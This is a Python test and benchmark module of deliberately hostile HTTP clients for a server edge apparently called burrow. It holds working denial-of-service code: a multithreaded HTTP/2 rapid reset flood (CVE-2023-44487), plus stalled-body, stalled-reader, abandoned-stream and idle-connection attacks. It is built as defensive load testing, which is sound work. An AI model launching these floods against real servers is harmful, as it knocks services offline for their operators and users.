#!/usr/bin/env python3
"""Hostile HTTP clients for burrow's tests and benchmark: what an attacker on the internet
would do to the edge (rapid reset, abandoned and stalled requests, idle and flooding
connections, oversized heads, raw bytes for smuggling checks).

Python 3 standard library plus Debian's python3-h2 (h2, hpack, hyperframe); run it with
/usr/bin/python3. Everything is bounded: each function takes a timeout (or `seconds`), its
sockets have timeouts, every loop is bounded in count, and every socket a function opens is
closed before it returns, also on exceptions. Each function returns a dict of what it
observed, so that a test can assert on it. HTTP/2 goes over TLS with ALPN "h2" (the edge
serves no h2c), certificate not verified (the edge's own certificate is self-signed), SNI =
the authority.

As a CLI (for the benchmark), one JSON line of stats on stdout:
  hostile.py rapid-reset --host 127.0.0.1 --port P --authority app.test \
      --connections 20 --streams 20000 --seconds 10
  hostile.py good-client --port P --authority app.test --path /hello --seconds 10 \
      --concurrency 4 [--h2] [--tls]
"""

import argparse
import errno
import http.client
import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack

POLLRDHUP = getattr(select, "POLLRDHUP", 0x2000)

# HTTP/2 error codes (RFC 9113 section 7).
NO_ERROR = 0x0
PROTOCOL_ERROR = 0x1
REFUSED_STREAM = 0x7
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB

# Errors that mean "the peer closed or broke the connection" on a send or a receive.
_CLOSED_ERRORS = (ssl.SSLError, ConnectionError, OSError)


# ---- TLS -------------------------------------------------------------------------------

def _tls_context(alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(list(alpn))
    return ctx


def _sni(authority):
    """The server name for SNI: the authority without a port (None for an IP literal)."""
    name = authority
    if name.startswith("["):
        return None
    if name.count(":") == 1:
        name = name.split(":", 1)[0]
    try:
        socket.inet_pton(socket.AF_INET, name)
        return None
    except OSError:
        pass
    if ":" in name:
        return None
    return name or None


def _tls_connect(host, port, authority, alpn, timeout):
    """A TLS socket to host:port with SNI = authority; the raw socket is closed on failure."""
    raw = socket.create_connection((host, port), timeout=timeout)
    try:
        tls = _tls_context(alpn).wrap_socket(raw, server_hostname=_sni(authority))
    except BaseException:
        raw.close()
        raise
    return tls


def _abort(sock, rst=False):
    """Closes without a TLS close_notify; with rst, SO_LINGER 0 makes the close a TCP RST."""
    if sock is None:
        return
    try:
        if rst:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    try:
        sock.close()
    except OSError:
        pass


# ---- an HTTP/2 client over python3-h2 ---------------------------------------------------

class H2Client:
    """One HTTP/2 connection (TLS, ALPN h2) driven by h2.connection.H2Connection.

    After construction the preface has been sent and the server's SETTINGS read. Nothing
    runs in the background: frames are read only inside pump() (and wait()).

    Attributes a test may read:
      responses   {stream_id: {"status": int|None, "headers": [(k, v)], "body": bytes,
                   "ended": bool, "reset": error code|None, "trailers": [...]}}
      goaway      None or {"error_code": int, "last_stream_id": int}
      closed      True once the server closed the TCP connection (EOF, RST, TLS error, or a
                  write failed)
      remote_max_concurrent_streams  the server's SETTINGS_MAX_CONCURRENT_STREAMS or None
      protocol_error  repr of an h2 ProtocolError raised on the server's bytes, or None
      pings_acked, pings_received  counters

    read_window_hold=True: received DATA is never acknowledged (no WINDOW_UPDATE is ever
    sent), so the server's flow-control windows run dry: a client that stops reading.
    initial_window: SETTINGS_INITIAL_WINDOW_SIZE sent in the client's first SETTINGS.
    max_header_list_size: SETTINGS_MAX_HEADER_LIST_SIZE we announce and accept (1 MiB).
    """

    def __init__(self, host, port, authority, timeout=10, read_window_hold=False,
                 initial_window=None, max_header_list_size=1 << 20):
        self.host, self.port, self.authority = host, port, authority
        self.timeout = timeout
        self.read_window_hold = read_window_hold
        self.responses = {}
        self.goaway = None
        self.goaway_at = None
        self.closed = False
        self.closed_at = None
        self.protocol_error = None
        self.remote_max_concurrent_streams = None
        self.remote_settings_received = False
        self.pings_acked = 0
        self.pings_received = 0
        self._pending = {}  # stream_id -> [memoryview of body left, end_stream]
        self.sock = _tls_connect(host, port, authority, ["h2"], timeout)
        try:
            if self.sock.selected_alpn_protocol() != "h2":
                raise ConnectionError("the server did not select ALPN h2 (got %r)"
                                      % self.sock.selected_alpn_protocol())
            config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
            self.conn = h2.connection.H2Connection(config=config)
            codes = h2.settings.SettingCodes
            values = {codes.ENABLE_PUSH: 0, codes.MAX_CONCURRENT_STREAMS: 100,
                      codes.MAX_HEADER_LIST_SIZE: max_header_list_size}
            if initial_window is not None:
                values[codes.INITIAL_WINDOW_SIZE] = initial_window
            # Replaced before the preface: these are the values the first SETTINGS carries
            # and the ones h2 checks inbound frames against (no later SETTINGS needed).
            self.conn.local_settings = h2.settings.Settings(client=True, initial_values=values)
            self.conn.decoder.max_header_list_size = max_header_list_size
            self.conn.initiate_connection()
            self._flush()
            self.pump(timeout, until=lambda: self.remote_settings_received)
            if not self.remote_settings_received:
                raise ConnectionError("no SETTINGS from the server within %ss (closed=%s, %s)"
                                      % (timeout, self.closed, self.protocol_error))
        except BaseException:
            _abort(self.sock)
            raise

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def __repr__(self):
        return "<H2Client %s:%s %s closed=%s goaway=%s>" % (
            self.host, self.port, self.authority, self.closed, self.goaway)

    # ---- sending ----

    def _mark_closed(self):
        if not self.closed:
            self.closed = True
            self.closed_at = time.monotonic()

    def _flush(self):
        data = self.conn.data_to_send()
        if not data or self.closed:
            return
        try:
            self.sock.settimeout(self.timeout)
            self.sock.sendall(data)
        except _CLOSED_ERRORS:
            self._mark_closed()
            self._read_leftovers()

    def _read_leftovers(self):
        """After a failed write: what the server sent before it closed (a GOAWAY, a reset,
        an answer) may still be readable; read it without blocking, a bounded number of
        times, and handle it."""
        for _ in range(64):
            try:
                self.sock.settimeout(0.0)
                data = self.sock.recv(65536)
            except Exception:  # noqa: BLE001 - a broken TLS session says nothing more
                return
            if not data:
                return
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as e:
                self.protocol_error = repr(e)
                return
            for ev in events:
                self._handle(ev)

    def request(self, path, method="GET", headers=(), body=None, end_stream=True, flush=True):
        """Opens a stream; returns its id. A body is sent as flow control allows (the rest in
        later pump() calls); end_stream=False leaves the request open after the body."""
        if self.closed:
            raise ConnectionError("the server closed the connection")
        sid = self.conn.get_next_available_stream_id()
        hdrs = [(":method", method), (":scheme", "https"), (":authority", self.authority),
                (":path", path)] + list(headers)
        self.conn.send_headers(sid, hdrs, end_stream=bool(end_stream and not body))
        self.responses[sid] = {"status": None, "headers": [], "body": b"", "ended": False,
                               "reset": None, "trailers": []}
        if body:
            self._pending[sid] = [memoryview(bytes(body)), end_stream]
            self._send_pending(sid)
        if flush:
            self._flush()
        return sid

    def _send_pending(self, sid):
        item = self._pending.get(sid)
        if item is None:
            return
        try:
            while len(item[0]):
                window = min(self.conn.local_flow_control_window(sid),
                             self.conn.max_outbound_frame_size)
                if window <= 0:
                    return
                chunk, item[0] = item[0][:window], item[0][window:]
                self.conn.send_data(sid, chunk.tobytes())
            if item[1]:
                self.conn.end_stream(sid)
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
            pass
        del self._pending[sid]

    def send_data(self, stream_id, data, end_stream=False):
        """More body on an open stream (queued behind flow control like request's)."""
        item = self._pending.setdefault(stream_id, [memoryview(b""), False])
        item[0] = memoryview(item[0].tobytes() + bytes(data))
        item[1] = end_stream
        self._send_pending(stream_id)
        self._flush()

    def reset(self, stream_id, error_code=CANCEL):
        """RST_STREAM(error_code, CANCEL by default); a stream already closed is ignored."""
        self._pending.pop(stream_id, None)
        try:
            self.conn.reset_stream(stream_id, error_code=error_code)
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError,
                KeyError):
            return
        self._flush()

    def ping(self, data=None):
        try:
            self.conn.ping(data or os.urandom(8))
        except h2.exceptions.ProtocolError:
            return
        self._flush()

    # ---- receiving ----

    def _handle(self, ev):
        E = h2.events
        r = self.responses.get(getattr(ev, "stream_id", None))
        if isinstance(ev, E.ResponseReceived):
            if r is not None:
                r["headers"] = list(ev.headers)
                for k, v in ev.headers:
                    if k == ":status":
                        r["status"] = int(v)
        elif isinstance(ev, E.TrailersReceived):
            if r is not None:
                r["trailers"] = list(ev.headers)
        elif isinstance(ev, E.DataReceived):
            if r is not None:
                r["body"] += ev.data
            if not self.read_window_hold and ev.flow_controlled_length:
                try:
                    self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                    pass
        elif isinstance(ev, E.StreamEnded):
            if r is not None:
                r["ended"] = True
        elif isinstance(ev, E.StreamReset):
            self._pending.pop(ev.stream_id, None)
            if r is not None:
                r["reset"] = int(ev.error_code)
        elif isinstance(ev, E.ConnectionTerminated):
            if self.goaway is None:
                self.goaway_at = time.monotonic()
            self.goaway = {"error_code": int(ev.error_code),
                           "last_stream_id": ev.last_stream_id}
        elif isinstance(ev, E.RemoteSettingsChanged):
            self.remote_settings_received = True
            mcs = ev.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
            if mcs is not None:
                self.remote_max_concurrent_streams = mcs.new_value
        elif isinstance(ev, E.WindowUpdated):
            for sid in list(self._pending):
                self._send_pending(sid)
        elif isinstance(ev, E.PingAckReceived):
            self.pings_acked += 1
        elif isinstance(ev, E.PingReceived):
            self.pings_received += 1  # h2 queues the PING ACK itself

    def _feed(self, data):
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            self.protocol_error = repr(e)
            self._flush()  # h2's own GOAWAY, if any
            return []
        for ev in events:
            self._handle(ev)
        self._flush()
        return events

    def pump(self, seconds, until=None):
        """Reads and handles frames for up to `seconds` (at least one non-blocking read);
        returns early when the server closes or when until() is true. Returns the events."""
        deadline = time.monotonic() + max(0.0, seconds)
        events = []
        first = True
        while not self.closed and self.protocol_error is None:
            if until is not None and until():
                break
            remaining = deadline - time.monotonic()
            if remaining <= 0 and not first:
                break
            first = False
            try:
                self.sock.settimeout(max(0.0, remaining))
                data = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError, ssl.SSLWantWriteError,
                    BlockingIOError):
                if remaining <= 0:
                    break
                continue
            except _CLOSED_ERRORS:
                self._mark_closed()
                break
            if not data:
                self._mark_closed()
                break
            events.extend(self._feed(data))
        return events

    def finished(self, stream_id):
        """The stream has ended, was reset, or the connection is gone."""
        r = self.responses.get(stream_id) or {}
        return bool(r.get("ended") or r.get("reset") is not None or self.closed
                    or self.protocol_error or self._goaway_covers(stream_id))

    def _goaway_covers(self, stream_id):
        return self.goaway is not None and stream_id > self.goaway["last_stream_id"]

    def wait(self, stream_id, timeout=None):
        """Pumps until the stream is finished (see finished()); returns its response dict."""
        self.pump(self.timeout if timeout is None else timeout,
                  until=lambda: self.finished(stream_id))
        return self.responses.get(stream_id)

    def open_streams(self):
        return self.conn.open_outbound_streams

    def close(self, rst=False):
        """Closes the TCP connection (no GOAWAY, no close_notify); idempotent."""
        sock, self.sock = self.sock, None
        _abort(sock, rst=rst)


def h2_connect(host, port, authority, timeout=10, **options):
    """An H2Client that has sent its preface and read the server's SETTINGS. options:
    read_window_hold, initial_window, max_header_list_size (see H2Client)."""
    return H2Client(host, port, authority, timeout=timeout, **options)


# ---- raw HTTP/2 frames for the rapid reset ----------------------------------------------

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def _request_block(authority, path, method="GET"):
    """An HPACK header block that touches no dynamic table (never-indexed literals), so the
    very same bytes can open any number of streams."""
    n = hpack.NeverIndexedHeaderTuple
    return hpack.Encoder().encode([n(":method", method), n(":scheme", "https"),
                                   n(":authority", authority), n(":path", path)])


def _rapid_reset_one(host, port, authority, path, streams, batch, deadline, linger, out):
    """One connection of rapid_reset(); fills `out` (never raises)."""
    out.update(sent=0, goaway=None, closed=False, error=None, responses_seen=0)
    sock = None
    try:
        sock = _tls_connect(host, port, authority, ["h2"],
                            max(0.5, min(10.0, deadline - time.monotonic())))
        if sock.selected_alpn_protocol() != "h2":
            raise ConnectionError("no ALPN h2")
        block = _request_block(authority, path)
        rst_payload = struct.pack(">I", CANCEL)
        # SETTINGS: ENABLE_PUSH 0, INITIAL_WINDOW_SIZE 65535.
        outbuf = bytearray(_PREFACE + _frame(0x4, 0, 0, struct.pack(">HI", 2, 0)
                                             + struct.pack(">HI", 4, 65535)))
        inbuf = bytearray()
        unacked = 0  # connection-level DATA bytes not yet given back
        sid = 1
        state = {"goaway": None, "eof": False}

        def parse():
            nonlocal unacked
            while len(inbuf) >= 9:
                length = int.from_bytes(inbuf[0:3], "big")
                if len(inbuf) < 9 + length:
                    return
                ftype, flags = inbuf[3], inbuf[4]
                payload = bytes(inbuf[9:9 + length])
                del inbuf[:9 + length]
                if ftype == 0x4 and not flags & 0x1:          # SETTINGS -> ACK
                    outbuf.extend(_frame(0x4, 0x1, 0))
                elif ftype == 0x6 and not flags & 0x1:        # PING -> PING ACK
                    outbuf.extend(_frame(0x6, 0x1, 0, payload[:8]))
                elif ftype == 0x7 and length >= 8:           # GOAWAY
                    state["goaway"] = int.from_bytes(payload[4:8], "big")
                elif ftype == 0x0:                           # DATA: keep the window open
                    unacked += length
                elif ftype == 0x1:
                    out["responses_seen"] += 1
            if unacked >= 32768:
                outbuf.extend(_frame(0x8, 0, 0, struct.pack(">I", unacked)))
                unacked = 0

        def read_available():
            sock.settimeout(0.0)
            for _ in range(1000):
                try:
                    data = sock.recv(65536)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError,
                        socket.timeout):
                    return
                if not data:
                    state["eof"] = True
                    return
                inbuf.extend(data)
                parse()

        def write(data):
            sock.settimeout(max(0.05, deadline - time.monotonic()))
            sock.sendall(data)

        try:
            while (out["sent"] < streams and time.monotonic() < deadline
                   and state["goaway"] is None and not state["eof"]):
                n = min(batch, streams - out["sent"], (0x7FFFFFFF - sid) // 2 + 1)
                if n <= 0:
                    break
                buf = outbuf
                for _ in range(n):
                    buf += _frame(0x1, 0x5, sid, block)         # HEADERS END_STREAM|END_HEADERS
                    buf += _frame(0x3, 0x0, sid, rst_payload)   # RST_STREAM CANCEL
                    sid += 2
                outbuf = bytearray()
                write(buf)
                out["sent"] += n
                read_available()
                if outbuf and not state["eof"]:
                    write(bytes(outbuf))
                    outbuf = bytearray()
            # A short linger: the server's GOAWAY and close may come a moment later.
            end = time.monotonic() + linger
            while not state["eof"] and time.monotonic() < end:
                sock.settimeout(max(0.01, end - time.monotonic()))
                try:
                    data = sock.recv(65536)
                except (socket.timeout, ssl.SSLWantReadError):
                    break
                if not data:
                    state["eof"] = True
                    break
                inbuf.extend(data)
                parse()
        except socket.timeout:
            pass  # the deadline passed in the middle of a write
        except _CLOSED_ERRORS:
            state["eof"] = True
        out["goaway"] = state["goaway"]
        out["closed"] = state["eof"]
    except Exception as e:  # connect failures and anything unexpected: reported, not raised
        out["error"] = "%s: %s" % (type(e).__name__, e)
    finally:
        _abort(sock)


def _rapid_reset_worker(host, port, authority, path, streams, batch, deadline, linger,
                        reconnect, out):
    """One attacker thread: one connection, or with `reconnect` a new one each time the
    server closes the last, until `deadline`. Fills `out` like _rapid_reset_one, summed over
    its connections, plus "rounds" (connections opened) and "goaways" (every code seen)."""
    out.update(sent=0, goaway=None, goaways=[], closed=0, error=None, rounds=0)
    while True:
        one = {}
        _rapid_reset_one(host, port, authority, path, streams, batch, deadline, linger, one)
        out["rounds"] += 1
        out["sent"] += one.get("sent", 0)
        if one.get("goaway") is not None:
            out["goaways"].append(one["goaway"])
            out["goaway"] = one["goaway"]
        out["closed"] += 1 if one.get("closed") else 0
        if one.get("error"):
            out["error"] = one["error"]
        if not reconnect or one.get("error") or time.monotonic() >= deadline:
            return


def rapid_reset(host, port, authority, path="/hello", connections=1, streams=1000,
                seconds=10, batch=100, linger=1.0, reconnect=False):
    """The HTTP/2 rapid reset attack (CVE-2023-44487). Per connection, in a thread each:
    `batch` HEADERS (END_STREAM) each immediately followed by RST_STREAM(CANCEL), flushed in
    one write, then whatever arrived is read without blocking; until `streams` HEADERS were
    sent ON THAT CONNECTION, the server sent GOAWAY or closed, or `seconds` passed. After
    that, up to `linger` seconds more of reading catch a late GOAWAY or close.

    Frames are built by hand (one stateless HPACK block for every stream) so that Python is
    fast enough to be an attacker. Returns {"sent": HEADERS sent in all, "goaways": [error
    codes received], "closed": connections the server closed, "elapsed": seconds,
    "connections": n, "errors": [connect failures...], "per_connection": [...]}.
    With `reconnect`, each of the `connections` threads opens a new connection whenever the
    server closes its last, until `seconds` pass (a sustained attack); "opened" counts them."""
    started = time.monotonic()
    deadline = started + seconds
    outs = [{} for _ in range(connections)]
    threads = [threading.Thread(target=_rapid_reset_worker, daemon=True,
                                args=(host, port, authority, path, streams, max(1, batch),
                                      deadline, linger, reconnect, outs[i]))
               for i in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=max(0.0, deadline - time.monotonic()) + linger + 15)
    return {
        "sent": sum(o.get("sent", 0) for o in outs),
        "goaways": [g for o in outs for g in o.get("goaways", [])],
        "closed": sum(o.get("closed", 0) for o in outs),
        "opened": sum(o.get("rounds", 0) for o in outs),
        "elapsed": round(time.monotonic() - started, 3),
        "connections": connections,
        "errors": [o["error"] for o in outs if o.get("error")],
        "per_connection": [{k: o.get(k) for k in ("sent", "goaway", "closed")} for o in outs],
    }


# ---- abandoned requests -----------------------------------------------------------------

def _hold(hold, until):
    """Waits up to `hold` seconds, or until until() is true (polled every 50 ms)."""
    end = time.monotonic() + hold
    while time.monotonic() < end:
        if until is not None and until():
            return
        time.sleep(min(0.05, max(0.0, end - time.monotonic())))


def abandon_streams(host, port, authority, path, streams=500, timeout=10, hold=0.0,
                    until=None, stall=1.0, rst=False):
    """One HTTP/2 connection opening `streams` requests to `path` (e.g. /slow?ms=600000),
    never more at once than the server's SETTINGS_MAX_CONCURRENT_STREAMS; when that many are
    open and none finishes within `stall` seconds, it stops opening. Then it waits up to
    `hold` seconds (or until until() is true, e.g. "the connector sees them in flight"), and
    closes the TCP connection abruptly without reading more (rst=True: a TCP RST).

    Returns {"opened": streams sent and not refused, "refused": streams the server reset
    with REFUSED_STREAM, "sent": HEADERS sent, "limit": the server's limit or None,
    "answered": streams that got a response before the close, "closed_by_server": bool}."""
    deadline = time.monotonic() + timeout
    c = H2Client(host, port, authority, timeout=timeout)
    sent = 0
    try:
        limit = c.remote_max_concurrent_streams
        while sent < streams and time.monotonic() < deadline and not c.closed \
                and c.goaway is None and c.protocol_error is None:
            room = (limit if limit is not None else streams) - c.open_streams()
            if room > 0:
                for _ in range(min(room, streams - sent)):
                    try:
                        c.request(path, flush=False)
                    except h2.exceptions.TooManyStreamsError:
                        break
                    sent += 1
                c._flush()
                c.pump(0)
                continue
            before = c.open_streams()
            c.pump(min(stall, max(0.0, deadline - time.monotonic())),
                   until=lambda: c.open_streams() < before)
            limit = c.remote_max_concurrent_streams or limit
            if c.open_streams() >= before:
                break  # the limit is reached and nothing finishes: we hold what we have
        if hold > 0 or until is not None:
            end = time.monotonic() + hold
            while time.monotonic() < end and not c.closed:
                if until is not None and until():
                    break
                c.pump(min(0.05, max(0.0, end - time.monotonic())))
        c.pump(0)
        refused = sum(1 for r in c.responses.values() if r["reset"] == REFUSED_STREAM)
        return {"opened": sent - refused, "refused": refused, "sent": sent, "limit": limit,
                "answered": sum(1 for r in c.responses.values() if r["status"] is not None),
                "closed_by_server": c.closed}
    finally:
        c.close(rst=rst)


def abandon_http1(host, port, authority, path, connections=100, timeout=10, hold=0.0,
                  until=None, rst=False):
    """`connections` plain HTTP/1.1 connections, each sending `GET path` (Host: authority)
    and reading nothing; after up to `hold` seconds (or until until() is true) all are
    closed (rst=True: by TCP RST). Returns {"sent": requests sent, "errors": connections
    that could not be opened or written}."""
    deadline = time.monotonic() + timeout
    req = b"GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path.encode(), authority.encode())
    socks = []
    sent = errors = 0
    try:
        for _ in range(connections):
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                errors += connections - sent - errors
                break
            s = None
            try:
                s = socket.create_connection((host, port), timeout=min(5.0, remaining))
                socks.append(s)
                s.sendall(req)
                sent += 1
            except OSError:
                errors += 1
                if s is not None and s not in socks:
                    s.close()
        _hold(hold, until)
        return {"sent": sent, "errors": errors}
    finally:
        for s in socks:
            _abort(s, rst=rst)


# ---- idle connections -------------------------------------------------------------------

def idle_h2(host, port, authority, seconds, ping_every=1.0, timeout=10):
    """One HTTP/2 connection with no request: a PING every `ping_every` seconds (the
    server's PINGs are answered by h2), until the server closes it or GOAWAYs, or `seconds`
    pass. Returns {"closed_after": seconds from the handshake's end until the GOAWAY or the
    close, None if still open at the end, "goaway": error code or None, "closed": bool,
    "pings_acked": n}."""
    c = H2Client(host, port, authority, timeout=timeout)
    try:
        start = time.monotonic()
        end = start + seconds
        next_ping = start
        while time.monotonic() < end and not c.closed and c.goaway is None \
                and c.protocol_error is None:
            now = time.monotonic()
            if now >= next_ping:
                c.ping()
                next_ping = now + max(0.01, ping_every)
            c.pump(max(0.0, min(next_ping, end) - time.monotonic()),
                   until=lambda: c.goaway is not None)
        if c.goaway is not None and not c.closed:
            c.pump(min(1.0, max(0.2, end - time.monotonic())))  # the close after the GOAWAY
        ends = [t for t in (c.goaway_at, c.closed_at) if t is not None]
        return {"closed_after": round(min(ends) - start, 3) if ends else None,
                "goaway": c.goaway["error_code"] if c.goaway else None,
                "closed": c.closed, "pings_acked": c.pings_acked}
    finally:
        c.close()


# ---- stalled request bodies -------------------------------------------------------------

def _status_of(data):
    if not data.startswith(b"HTTP/1."):
        return None
    parts = data.split(b"\r\n", 1)[0].split(b" ")
    try:
        return int(parts[1])
    except (IndexError, ValueError):
        return None


def stalled_body_http1(host, port, authority, path="/upload", declared=1_000_000, send=1000,
                       seconds=120):
    """POST with Content-Length `declared` of which only `send` bytes are sent, then
    silence while reading, until the server answers or closes or `seconds` pass. Returns
    {"status": int|None, "elapsed": seconds from the last byte sent until the answer's
    first bytes or the close (None if neither), "closed": bool, "response": first 4 KiB}."""
    s = socket.create_connection((host, port), timeout=min(10.0, seconds))
    try:
        s.sendall(b"POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n"
                  % (path.encode(), authority.encode(), declared) + b"x" * send)
        start = time.monotonic()
        deadline = start + seconds
        received = b""
        elapsed = None
        closed = False
        while True:
            now = time.monotonic()
            limit = deadline if elapsed is None else min(deadline, start + elapsed + 2.0)
            if now >= limit:
                break
            s.settimeout(limit - now)
            try:
                piece = s.recv(65536)
            except socket.timeout:
                break
            except OSError:
                piece = b""
            if not piece:
                closed = True
                if elapsed is None:
                    elapsed = time.monotonic() - start
                break
            if elapsed is None:
                elapsed = time.monotonic() - start
            received += piece
            if len(received) > (1 << 20):
                break
        return {"status": _status_of(received),
                "elapsed": None if elapsed is None else round(elapsed, 3),
                "closed": closed, "response": received[:4096]}
    finally:
        s.close()


def stalled_body_h2(host, port, authority, path="/upload", declared=1_000_000, send=1000,
                    seconds=120, timeout=10):
    """The same over HTTP/2: HEADERS (content-length `declared`) without END_STREAM, one
    DATA frame of `send` bytes, then silence. Returns {"status": int|None, "reset": error
    code if the stream was reset, "elapsed": seconds until the answer, the reset, a GOAWAY
    or the close (None if none), "goaway": code|None, "closed": bool}."""
    c = H2Client(host, port, authority, timeout=timeout)
    try:
        sid = c.request(path, method="POST", headers=[("content-length", str(declared))],
                        body=b"x" * send, end_stream=False)
        start = time.monotonic()
        r = c.responses[sid]
        c.pump(seconds, until=lambda: (r["status"] is not None or r["reset"] is not None
                                       or c.goaway is not None))
        elapsed = time.monotonic() - start
        happened = (r["status"] is not None or r["reset"] is not None or c.goaway is not None
                    or c.closed or c.protocol_error)
        if r["status"] is not None and r["reset"] is None and not r["ended"]:
            c.pump(2.0, until=lambda: c.finished(sid))
        return {"status": r["status"], "reset": r["reset"],
                "elapsed": round(elapsed, 3) if happened else None,
                "goaway": c.goaway["error_code"] if c.goaway else None, "closed": c.closed,
                "body": r["body"][:4096]}
    finally:
        c.close()


# ---- stalled readers --------------------------------------------------------------------

_TCP_STATES = {"01": "ESTABLISHED", "02": "SYN_SENT", "03": "SYN_RECV", "04": "FIN_WAIT1",
               "05": "FIN_WAIT2", "06": "TIME_WAIT", "07": "CLOSE", "08": "CLOSE_WAIT",
               "09": "LAST_ACK", "0A": "LISTEN", "0B": "CLOSING", "0C": "NEW_SYN_RECV"}


def _proc_addr(text):
    """(ip, port) from /proc/net/tcp's "0100007F:1F90" (words in host byte order)."""
    hexip, hexport = text.split(":")
    raw = b"".join(struct.pack("=I", int(hexip[i:i + 8], 16)) for i in range(0, len(hexip), 8))
    family = socket.AF_INET if len(raw) == 4 else socket.AF_INET6
    return socket.inet_ntop(family, raw), int(hexport, 16)


def tcp_state(local, remote):
    """The state (e.g. "ESTABLISHED", "FIN_WAIT1") of the socket of this network namespace
    whose local and remote (ip, port) are given, from /proc/net/tcp{,6}; None if none."""
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                lines = f.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            cols = line.split()
            if len(cols) < 4:
                continue
            try:
                loc, rem = _proc_addr(cols[1]), _proc_addr(cols[2])
            except (ValueError, OSError):
                continue
            if loc[1] != local[1] or rem[1] != remote[1]:
                continue
            if _same_ip(loc[0], local[0]) and _same_ip(rem[0], remote[0]):
                return _TCP_STATES.get(cols[3], cols[3])
    return None


def _same_ip(a, b):
    strip = lambda ip: ip[7:] if ip.startswith("::ffff:") else ip  # noqa: E731
    return strip(a) == strip(b)


def stalled_reader_http1(host, port, authority, path="/bytes/200000000", seconds=180,
                         rcvbuf=4096, drain=False):
    """GET `path` with SO_RCVBUF `rcvbuf` (set before connect, so the window stays small)
    and then no reading at all, so that the server's send buffer fills. Every 0.5 s it
    checks, without reading, whether the server has ended the connection:

      * select.poll() on the socket for POLLRDHUP, POLLHUP or POLLERR: a FIN or RST that
        reached us. A FIN queued behind data we do not read cannot reach us (our window is
        zero), so this alone sees only an RST (or a close after all the data fit);
      * the server's end of the connection in /proc/net/tcp{,6} (both ends are in this
        network namespace on loopback): the connection has ended for the server once its
        socket leaves ESTABLISHED (FIN_WAIT1 after close() or shutdown() with unsent data,
        CLOSE...) or is gone.

    Returns {"closed_after": seconds from the request until the end was seen, or None if
    the connection was still up after `seconds`, "how": what saw it ("rdhup", "hup",
    "server FIN_WAIT1", "server gone", ...), "server_seen": whether /proc showed the
    server's socket at all (False: only poll was usable)}. With drain=True it then reads
    what is left (up to 10 s) and adds "drained": bytes read."""
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(10)
        s.connect((host, port))
        s.sendall(b"GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path.encode(), authority.encode()))
        start = time.monotonic()
        local, remote = s.getsockname()[:2], s.getpeername()[:2]
        poller = select.poll()
        poller.register(s, POLLRDHUP | select.POLLHUP | select.POLLERR)
        server_seen = False
        how = None
        while time.monotonic() - start < seconds:
            for _, ev in poller.poll(0):
                if ev & (select.POLLHUP | select.POLLERR):
                    how = "hup"     # an RST (or both directions shut)
                elif ev & POLLRDHUP:
                    how = "rdhup"   # a FIN that reached us
            if how is None:
                state = tcp_state(remote, local)
                if state is not None:
                    server_seen = True
                    if state != "ESTABLISHED":
                        how = "server " + state
                elif server_seen:
                    how = "server gone"
            if how is not None:
                break
            time.sleep(min(0.5, max(0.0, seconds - (time.monotonic() - start))))
        closed_after = round(time.monotonic() - start, 3) if how else None
        out = {"closed_after": closed_after, "how": how, "server_seen": server_seen}
        if drain:
            total = 0
            end = time.monotonic() + 10
            while time.monotonic() < end:
                s.settimeout(max(0.01, end - time.monotonic()))
                try:
                    piece = s.recv(1 << 20)
                except (socket.timeout, OSError):
                    break
                if not piece:
                    break
                total += len(piece)
            out["drained"] = total
        return out
    finally:
        s.close()


def stalled_reader_h2(host, port, authority, path="/bytes/200000000", seconds=180,
                      initial_window=1024, timeout=10):
    """GET over HTTP/2 by a client that announces SETTINGS_INITIAL_WINDOW_SIZE
    `initial_window` and never sends a WINDOW_UPDATE (read_window_hold): the server can
    send that much of the body and then must wait. Frames are still read, so a reset or
    GOAWAY is seen at once. Returns {"closed_after": seconds until the server reset the
    stream, GOAWAY'd or closed the connection (None if none within `seconds`), "reset":
    the stream's RST_STREAM error code or None, "goaway": code|None, "closed": bool,
    "status": int|None, "received": body bytes received}."""
    c = H2Client(host, port, authority, timeout=timeout, read_window_hold=True,
                 initial_window=initial_window)
    try:
        sid = c.request(path)
        start = time.monotonic()
        r = c.responses[sid]
        c.pump(seconds, until=lambda: r["reset"] is not None or c.goaway is not None
               or r["ended"])
        ended = r["reset"] is not None or c.goaway is not None or c.closed \
            or c.protocol_error is not None
        return {"closed_after": round(time.monotonic() - start, 3) if ended else None,
                "reset": r["reset"], "goaway": c.goaway["error_code"] if c.goaway else None,
                "closed": c.closed, "status": r["status"], "received": len(r["body"]),
                "ended": r["ended"]}
    finally:
        c.close()


# ---- raw HTTP/1.1 -----------------------------------------------------------------------

